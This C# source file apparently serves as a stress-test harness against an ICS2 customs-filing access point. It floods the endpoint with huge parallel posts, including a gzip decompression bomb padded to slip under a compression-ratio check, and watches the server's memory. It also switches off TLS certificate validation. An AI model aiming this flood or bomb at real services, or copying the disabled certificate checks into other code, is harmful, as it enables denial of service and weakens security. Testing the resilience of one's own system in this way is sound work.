using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Net.Http.Headers;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.RegularExpressions;

namespace Ics2.Attack;

/// <summary>Posts the largest messages there are, all the time, by many clients at once, and watches the memory of the access point.</summary>
internal static class Flood
{
    private const int Mebi = 1024 * 1024;

    public static async Task<int> RunAsync(Signer signer, string kind, int clients, TimeSpan length, int? process)
    {
        var parts = Parts(kind);
        Say($"{kind}: {parts.Count} parts, {parts.Sum(part => part.Gzip.Length) / (double)Mebi:F1} MB compressed");
        var answers = new ConcurrentDictionary<string, int>(StringComparer.Ordinal);
        var slowest = 0L;
        using var http = Client(signer);
        using var end = new CancellationTokenSource(length);
        var before = Memory.Of(process);
        Say($"before: {before}");
        var watch = Memory.WatchAsync(process, end.Token);
        var begun = Stopwatch.StartNew();
        await Task.WhenAll(
            Enumerable
                .Range(0, clients)
                .Select(async _ =>
                {
                    while (!end.IsCancellationRequested)
                    {
                        var once = Stopwatch.StartNew();
                        var answer = await PostAsync(
                            http,
                            signer,
                            signer.Filing(kind is "attachments" or "bomb" ? "IE3F26" : "IE3F10", parts)
                        );
                        answers.AddOrUpdate(answer, 1, (_, count) => count + 1);
                        InterlockedMax(ref slowest, once.ElapsedMilliseconds);
                        if (answer is "connection")
                        {
                            await Task.Delay(200, CancellationToken.None);
                        }
                    }
                })
        );
        var took = begun.Elapsed;
        var peak = await watch;
        foreach (var (answer, count) in answers.OrderByDescending(pair => pair.Value))
        {
            Say($"  {count, 6} x {answer}");
        }

        Say($"{answers.Values.Sum() / took.TotalSeconds:F1} answers/s, slowest {slowest} ms; peak {peak}");
        foreach (var wait in (int[])[0, 10, 20])
        {
            await Task.Delay(TimeSpan.FromSeconds(wait));
            Say($"{wait, 3} s later: {Memory.Of(process)}");
        }

        return 0;
    }

    public static HttpClient Client(Signer signer)
    {
        var handler = new SocketsHttpHandler { MaxConnectionsPerServer = 1000, PooledConnectionLifetime = TimeSpan.FromMinutes(1) };
        handler.SslOptions.ClientCertificateContext = signer.TlsContext; // made once: the platform looks for issuers over the network
        handler.SslOptions.RemoteCertificateValidationCallback = (_, _, _, _) => true;
        handler.SslOptions.CertificateChainPolicy = NoQuestions();
        return new HttpClient(handler, disposeHandler: true) { Timeout = TimeSpan.FromSeconds(120) };
    }

    /// <summary>Has the platform ask nobody about the server's certificate, which would be what is measured then.</summary>
    public static X509ChainPolicy NoQuestions() =>
        new()
        {
            DisableCertificateDownloads = true,
            RevocationMode = X509RevocationMode.NoCheck,
            TrustMode = X509ChainTrustMode.CustomRootTrust,
        };

    public static async Task<string> PostAsync(HttpClient http, Signer signer, (string ContentType, byte[] Body) message)
    {
        try
        {
            using var content = new ByteArrayContent(message.Body);
            content.Headers.ContentType = MediaTypeHeaderValue.Parse(message.ContentType);
            using var response = await http.PostAsync(signer.Endpoint, content);
            var text = Encoding.Latin1.GetString(await response.Content.ReadAsByteArrayAsync());
            var code =
                Regex.Match(text, "errorCode=\"(?<code>[^\"]*)\"", RegexOptions.ExplicitCapture, TimeSpan.FromMinutes(1))
                    is { Success: true } error
                    ? " " + error.Groups["code"].Value
                : text.Contains("eb:Receipt", StringComparison.Ordinal) ? " receipt"
                : "";
            var rule = Regex.Match(text, "rule: (?<rule>[a-z.-]+)", RegexOptions.ExplicitCapture, TimeSpan.FromMinutes(1));
            return $"HTTP {(int)response.StatusCode}{code}{(rule.Success ? " " + rule.Groups["rule"].Value : "")}";
        }
        catch (Exception gone) when (gone is HttpRequestException or TaskCanceledException or IOException)
        {
            return "connection";
        }
    }

    private static IReadOnlyList<(string MimeType, byte[] Gzip)> Parts(string kind)
    {
        switch (kind)
        {
            case "bomb": // 25 attachments of 95 MB each, and a small document
                var noise = new byte[Mebi / 2]; // so that the ratio of sizes stays below what is refused
                Random.Shared.NextBytes(noise);
                var bomb = Zip(output => Fill(output, noise, 95 * Mebi));
                return
                [
                    ("application/xml", Zip(output => output.Write("<IE3F10/>"u8))),
                    .. Enumerable.Repeat(("application/pdf", bomb), 25),
                ];
            case "attachments": // as large as HTTP lets through, and nothing to compress
                var picture = new byte[9 * Mebi];
                Random.Shared.NextBytes(picture);
                var pdf = Zip(output => output.Write(picture));
                return
                [
                    ("application/xml", Zip(output => output.Write("<IE3F26/>"u8))),
                    ("application/pdf", pdf),
                    ("application/pdf", pdf),
                ];
            case "document": // one business document of 95 MB that is read to its end
                return [("application/xml", Zip(output => Items(output, 95)))];
            default: // a filing of a few kilobytes
                return [("application/xml", Zip(output => Items(output, 0)))];
        }
    }

    private static void Fill(Stream output, byte[] begin, int length)
    {
        output.Write(begin);
        var zeros = new byte[Mebi];
        for (var left = length - begin.Length; left > 0; left -= zeros.Length)
        {
            output.Write(zeros.AsSpan(0, Math.Min(left, zeros.Length)));
        }
    }

    private static void Items(Stream output, int megabytes)
    {
        output.Write("<IE3F10 xmlns=\"urn:wco:datamodel:eu:ics2:2\"><LRN>ATTACK</LRN>"u8);
        for (long written = 0, number = 0; written < megabytes * (long)Mebi; number++)
        {
            var seal = Encoding.UTF8.GetBytes(
                string.Create(
                    CultureInfo.InvariantCulture,
                    $"<seal><sequenceNumber>{number}</sequenceNumber><identifier>S{number * 7919}</identifier></seal>"
                )
            );
            output.Write(seal);
            written += seal.Length;
        }

        output.Write("</IE3F10>"u8);
    }

    private static byte[] Zip(Action<Stream> write)
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            write(gzip);
        }

        return output.ToArray();
    }

    private static void InterlockedMax(ref long most, long value)
    {
        for (var seen = Interlocked.Read(ref most); value > seen; )
        {
            var was = Interlocked.CompareExchange(ref most, value, seen);
            if (was == seen)
            {
                return;
            }

            seen = was;
        }
    }

    private static void Say(string text) => Console.WriteLine(text);
}

/// <summary>Memory of a process, as Linux tells it.</summary>
internal static class Memory
{
    public static string Of(int? process) => Resident(process) is { } bytes ? $"{bytes / 1024} MB resident" : "not running";

    public static async Task<string> WatchAsync(int? process, CancellationToken end)
    {
        var peak = 0L;
        while (!end.IsCancellationRequested)
        {
            peak = Math.Max(peak, Resident(process) ?? 0);
            await Task.Delay(50, CancellationToken.None);
        }

        return $"{peak / 1024} MB resident";
    }

    private static long? Resident(int? process)
    {
        try
        {
            return process is null
                ? null
                : File.ReadLines($"/proc/{process}/status")
                    .Where(line => line.StartsWith("VmRSS:", StringComparison.Ordinal))
                    .Select(line =>
                        (long?)long.Parse(line.Split(' ', StringSplitOptions.RemoveEmptyEntries)[^2], CultureInfo.InvariantCulture)
                    )
                    .FirstOrDefault();
        }
        catch (IOException)
        {
            return null;
        }
    }
}
